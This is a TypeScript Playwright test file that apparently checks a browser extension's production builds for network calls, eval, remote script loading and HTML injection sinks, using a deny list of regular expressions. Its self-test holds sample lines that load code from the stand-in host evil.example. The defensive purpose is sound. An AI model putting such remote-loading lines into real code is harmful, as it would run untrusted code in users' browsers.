import { readdirSync, readFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { ensureBuilt } from '@/scripts/setup/build.mjs';
import { countCases } from '../trust-cases';

/** What asks another machine for something, runs what was not built, or lets others in. */
const FORBIDDEN: Readonly<Record<string, RegExp>> = {
  fetch: /(?<![\w$.])fetch\s*\(/,
  XMLHttpRequest: /XMLHttpRequest/,
  WebSocket: /WebSocket|WebTransport|RTCPeerConnection/,
  EventSource: /EventSource/,
  sendBeacon: /sendBeacon/,
  // What is in the package once for all parts.
  importScripts: /importScripts(?!\(["'`]\/(?:common|settings|storage)\.js["'`]\))/,
  eval: /(?<![\w$.])eval\s*\(/,
  Function: /\bnew Function\b|(?<![\w$.])Function\s*\(\s*["'`]/,
  'code in a string': /set(?:Timeout|Interval)\s*\(\s*["'`]/,
  'a script from elsewhere': /\bimport\s*\(?\s*["'`](?:https?:)?\/\//,
  'messages from others': /on(?:Message|Connect)External\s*(?:\?\.|\.)\s*addListener/,
  'markup from text': /\.insertAdjacentHTML|document\.write\b|\.outerHTML\s*=/,
  'a source map': /sourceMappingURL/,
};

function filesIn(folder: string, end: RegExp): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) => end.test(file));
}

for (const browser of ['chrome', 'firefox'] as const) {
  test(`[T18] what is built for ${browser} asks nobody, and runs nothing that was not built`, () => {
    test.setTimeout(180_000);
    const folder = ensureBuilt('production', browser);
    const scripts = filesIn(folder, /\.js$/);
    expect(scripts.length).toBeGreaterThan(5);
    countCases('T18', scripts.length * Object.keys(FORBIDDEN).length);
    for (const file of scripts) {
      const code = readFileSync(`${folder}/${file}`, 'utf8');
      for (const [what, pattern] of Object.entries(FORBIDDEN)) {
        const at = code.search(pattern);
        expect.soft(at < 0 ? '' : code.slice(Math.max(0, at - 60), at + 80), `${what} in ${file}`).toBe('');
      }
    }
    expect(filesIn(folder, /\.map$/)).toEqual([]);
    for (const file of filesIn(folder, /\.(?:html|css)$/)) {
      const text = readFileSync(`${folder}/${file}`, 'utf8');
      expect
        .soft(text, file)
        .not.toMatch(
          /(?:src|href)\s*=\s*["']?(?:https?:)?\/\/|url\(\s*["']?(?:https?:)?\/\/|@import|\son\w+\s*=/i,
        );
    }
  });
}

test('[T7, T8] the card of a released build is closed to the page', () => {
  const modeIn = (mode: 'production' | 'e2e') =>
    /mode:\s*["'`](open|closed)["'`]/.exec(readFileSync(`${ensureBuilt(mode)}/reader.js`, 'utf8'))?.[1];
  expect(modeIn('production')).toBe('closed');
  // A driver of tests has to see into it.
  expect(modeIn('e2e')).toBe('open');
});

test('the questions are real ones', () => {
  for (const [what, code] of [
    ['fetch', 'a=await fetch(u)'],
    ['importScripts', 'importScripts(u)'],
    ['importScripts', 'importScripts("https://evil.example/dexie.js")'],
    ['eval', 'x=1;eval(y)'],
    ['Function', 'Function("return this")()'],
    ['a script from elsewhere', 'import("https://evil.example/x.js")'],
    ['code in a string', 'setTimeout("alert(1)",0)'],
  ] as const) {
    expect(code).toMatch(FORBIDDEN[what] as RegExp);
  }
});
